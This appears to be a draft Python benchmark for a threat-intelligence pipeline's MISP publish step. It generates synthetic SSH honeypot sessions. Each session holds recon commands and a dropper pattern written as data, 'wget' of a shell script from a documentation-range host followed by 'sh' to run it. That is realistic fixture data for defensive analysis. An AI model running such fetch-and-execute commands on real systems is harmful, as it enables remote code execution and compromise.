"""Benchmark: the MISP publish step's time per interval along a long backfill (draft)."""

from __future__ import annotations

import hashlib
import random
from datetime import UTC, datetime, timedelta

from coord_core.contracts.campaigns import AnalysisResult, Campaign, Evidence, RunInfo, Verdict
from coord_core.contracts.sessions import AttackSession, Download, LoginAttempt
from coord_core.contracts.window import DataWindow

START = datetime(2025, 11, 3, tzinfo=UTC)
HOUR = timedelta(hours=1)
HASSH = ("ec7378c1a92f5a8dde7e8b7a1ddf33d1", "b5752e36ba6c5979a575e43178908adf")


def _digest(*parts: object) -> str:
    return hashlib.sha256("|".join(map(str, parts)).encode()).hexdigest()


def _session(rng: random.Random, window: DataWindow, campaign: int, k: int) -> AttackSession:
    """A bot of dropper campaign ``campaign``: a fresh source, recon, the campaign's dropper."""
    start = window.start + timedelta(seconds=rng.randrange(3000))
    host = f"203.0.{113 + campaign % 3}.{10 + campaign}"
    url = f"http://{host}/bins/c{campaign}.sh"
    failed = rng.random() < 0.05
    return AttackSession(
        session_id=_digest("session", campaign, window.start, k)[:12],
        sensor=f"sensor-{rng.randrange(3)}",
        src_ip=f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
        start=start,
        end=start + timedelta(seconds=rng.randrange(5, 600)),
        hassh=rng.choice(HASSH),
        logins=[LoginAttempt(username="root", password=rng.choice(["admin", "1234", "root"]), success=True)],
        commands=[rng.choice(["uname -a", "id", "cat /proc/cpuinfo"]), f"wget {url}", f"sh c{campaign}.sh"],
        downloads=[Download(url=url, shasum=None if failed else _digest("payload", campaign), failed=failed)],
        event_count=8,
        has_connect=True,
        has_close=True,
    )
